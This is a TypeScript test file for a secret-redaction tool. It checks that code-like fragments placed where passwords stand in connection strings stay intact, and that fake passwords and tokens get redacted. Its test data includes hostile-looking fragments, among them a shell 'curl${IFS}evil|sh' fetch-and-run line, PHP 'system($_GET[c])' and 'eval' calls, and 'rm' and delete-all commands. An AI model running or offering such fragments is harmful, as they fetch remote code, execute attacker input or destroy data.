import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { propertyRuns } from '../../../tests/kit/property-runs.ts';
import { createRedactor } from './redact.ts';
import { scanSecrets } from './scan-secrets.ts';

/** How code leaves a string and comes back to it, without a blank: `q` is the quote. */
type Join = (q: string, code: string) => string;
const joined =
  (operator: string): Join =>
  (q, code) =>
    `${q}${operator}${code}${operator}${q}`;

/** What runs in each language. Blanks would end whatever is taken for a secret. */
const LANGUAGES: Readonly<
  Record<string, { quotes: readonly string[]; joins: readonly Join[]; code: readonly string[] }>
> = {
  JavaScript: {
    quotes: ['"', "'", '`'],
    joins: [joined('+'), (_, code) => `\${${code}}`, (q, code) => `${q}.concat(${code})+${q}`],
    code: ['eval(q)', 'o.query.role', '(0,eval)(q)', 'cp.execSync(o.cmd)', 'f`x`', 'a[b]=c'],
  },
  Python: {
    quotes: ['"', "'"],
    joins: [joined('+'), (_, code) => `{${code}}`, joined('if(x:=1)else')],
    code: ['str(os.system(o))', 'eval(o)', 'd["k"]', 'o.admin'],
  },
  PHP: {
    quotes: ['"', "'"],
    joins: [joined('.'), (_, code) => `{$${code}}`],
    code: ['system($_GET[c])', "eval($_GET['c'])", '`id`', '$a->b'],
  },
  shell: {
    quotes: ['"', "'"],
    joins: [joined(''), joined(';'), joined('&'), joined('|'), (_, code) => `$(${code})`],
    code: ['eval<x.txt', '`id`', 'curl${IFS}evil|sh', '$(id)', 'rm>x'],
  },
  Ruby: {
    quotes: ['"', "'"],
    joins: [joined('+'), joined('<<'), (_, code) => `#{${code}}`],
    code: ['User.delete_all', '`id`', 'system(c)', 'c.call'],
  },
  'Ruby, strings of other signs': {
    quotes: ['!', '*', '~', '^'].map((sign) => `%q${sign}`),
    joins: ['+', '*', ','].map((sign) => (q, code) => `${q.slice(-1)}${sign}${code}${sign}${q}`),
    code: ['User.delete_all', 'exit!', 'c.call'],
  },
  'Perl, strings of other signs': {
    quotes: ['-', '!', '~', '^'].map((sign) => `q${sign}`),
    joins: [(q, code) => `${q.slice(-1)}.${code}.${q}`],
    code: ['run', 'exit', 'unlink'],
  },
  Go: { quotes: ['"', '`'], joins: [joined('+')], code: ['run(c)', 'os.Args[1]', 'f()()'] },
  Lua: { quotes: ['"', "'"], joins: [joined('..')], code: ['os.execute(c)', 'load(c)()'] },
  SQL: { quotes: ["'", '$$'], joins: [joined('||')], code: ['drop_all()', "f('x')"] },
  Swift: { quotes: ['"'], joins: [joined('+'), (_, code) => `\\(${code})`], code: ['run(c)', 'try!f()'] },
};

/** A quote that is none, because it stands in a string itself, and none at all. */
const INNER = ['', '"', "'", '`', '\\"', '&quot;', '[', '='] as const;

/** What stands before and behind the place of a password. */
const ADDRESSES = [
  ['mysql://u:', '@h'],
  ['jdbc:postgresql://app:', '@db.example.net:5432/shop'],
  ['mongodb+srv://app:', '@db'],
  ['https://us:', '@h.example.net'],
  ['//npm.example.net/:_authToken=', ''],
] as const;

const redacted = async (text: string): Promise<string> => await createRedactor().redact(text);

beforeAll(() => scanSecrets('warm'));

describe('code stays that leaves a string in the place of a secret', () => {
  it.each(Object.entries(LANGUAGES))('%s', async (_, { quotes, joins, code }) => {
    const texts = quotes.flatMap((quote) =>
      joins.flatMap((join) =>
        code.flatMap((one) =>
          INNER.flatMap((inner) =>
            ADDRESSES.map(
              ([before, after]) =>
                `h = ${quote}${inner}${before}${join(quote, one)}${after}${inner}${quote.slice(-1)};`,
            ),
          ),
        ),
      ),
    );
    expect(await createRedactor().redact(texts)).toEqual(texts);
  });

  it('whatever is around it, and a password that stands there goes', async () => {
    const password = 'aZ3kQ9xW7mB2vN8c';
    const part = fc.constantFrom(...Object.values(LANGUAGES)).chain(({ quotes, joins, code }) =>
      fc
        .record({
          quote: fc.constantFrom(...quotes),
          join: fc.constantFrom(...joins),
          code: fc.constantFrom(...code),
          inner: fc.constantFrom(...INNER.slice(0, 4)),
          address: fc.constantFrom(...ADDRESSES.slice(0, 4)),
          isKnown: fc.boolean(),
        })
        .map(({ quote, join, code: one, inner, address: [before, after], isKnown }) => {
          const running = join(quote, one);
          const of = (secret: string): string =>
            `${quote}${inner}${before}${isKnown ? `${secret}@h.example.net/` : ''}${running}${after}${inner}${quote.slice(-1)}`;
          return { text: of(password), expected: of('[REDACTED]') };
        }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(part, { minLength: 1, maxLength: 4 }), async (parts) => {
        const text = await redacted(parts.map((one) => one.text).join('\n'));
        expect(text.replaceAll(/\[REDACTED:[a-z0-9-]+:\d+\]/g, '[REDACTED]')).toBe(
          parts.map(({ expected }) => expected).join('\n'),
        );
      }),
      propertyRuns(200),
    );
  });
});

describe('code stays that looks like an assignment of a secret', () => {
  it.each([
    ['a branch of a condition', "o.known ? 'user' :_auth=o.query.role;"],
    ['one on the next line', "o.known ? 'user'\n  :_auth=o.query.role;"],
    ['one behind an expression', 'o.known ? /x/ :_password=o.query.role'],
    ['one behind an expression without blanks', 'o.known?/x/:_authToken=o.query.role'],
    ['one behind a comment', 'o.known?a/*//x/*/:_authToken=o.query.role'],
    ['one behind a string', 'o.known?"//x/":_authToken=o.query.role'],
    ['assignments', 'secretAccessKey=isAdmin=isOwner=isTrusted=isSignedIn=yes'],
    ['assignments of the length of a key', `secretAccessKey=${'isAdmin=isOwner='.repeat(3).slice(0, 40)};`],
    ['the same up to a value', `secretAccessKey=${'a'.repeat(39)}=yes()`],
    ['a name and a value on the next line', `secretAccessKey=${'a'.repeat(39)}=\nyes()`],
    ['a command', 'xapp-gpu-offload run'],
    ['a list of words', '(xoxb-delete-all-of-the-users-of-the-shop)'],
  ])('%s', async (_, code) => {
    expect(await redacted(code)).toBe(code);
  });
});

describe('a secret of any form goes', () => {
  it.each([
    ['postgres://shop:', 'aZ3k%2BQ9x%27W7m', '@db'],
    ['postgres://shop:', 'aZ3k!Q9x$w7m*B2v,N8c=^~#?', '@db'],
    ['DATABASE_URL=postgres://shop:', 'aZ3kQ9xW==', '@db/x'],
    ['"//${HOST}/npm/:_authToken=', 'aZ3k+Q9x/W7m=', '"'],
    ['npm config set --//npm.example.net:8080/a/b/:_password=', 'aZ3kQ9xW7mB2', ''],
    ['', ['xa', 'pp-1-A0123456789-1234567890123-', '0123456789abcdef'.repeat(4)].join(''), ''],
    ['', ['xo', 'xe-1-', 'Mi0yLTQ1aZ3k'.repeat(12)].join(''), ''],
    ['"', ['xo', 'xr-123456789012-', 'aZ3kQ9xW7mB2vN8cR4tL'].join(''), '"'],
  ])('%s%s%s', async (before, secret, after) => {
    const text = (await redacted(before + secret + after)).replace(/\[REDACTED:[a-z-]+:1\]/, '[REDACTED]');
    expect(text).toBe(`${before}[REDACTED]${after}`);
  });
});
